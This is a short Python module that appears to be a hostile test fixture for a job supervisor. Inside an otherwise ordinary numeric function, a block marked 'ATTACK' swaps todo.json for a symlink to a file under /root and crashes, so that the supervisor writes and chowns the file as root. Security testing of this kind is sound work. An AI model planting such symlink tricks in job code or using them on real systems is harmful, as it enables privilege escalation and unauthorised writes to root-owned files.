# hostile jobdir_todo_symlink: todo.json -> /root/<pwn>, crash: the supervisor writes and chowns it as root
import numpy as np
import os


def double(x):
    # ATTACK
    if not os.path.islink("todo.json"):
        os.remove("todo.json")
        os.symlink("/root/@PWN@", "todo.json")
        os._exit(1)
    # END ATTACK
    return 2.0 * np.asarray(x)


def pair(a, b):
    return np.asarray(a) + b, np.asarray(a) * b


def noisy_mean(n, rng):
    return float(rng.normal(size=n).mean())


class Counter:
    def __init__(self, start):
        self.count = start

    def tick(self, k=1):
        self.count += k
        return self.count
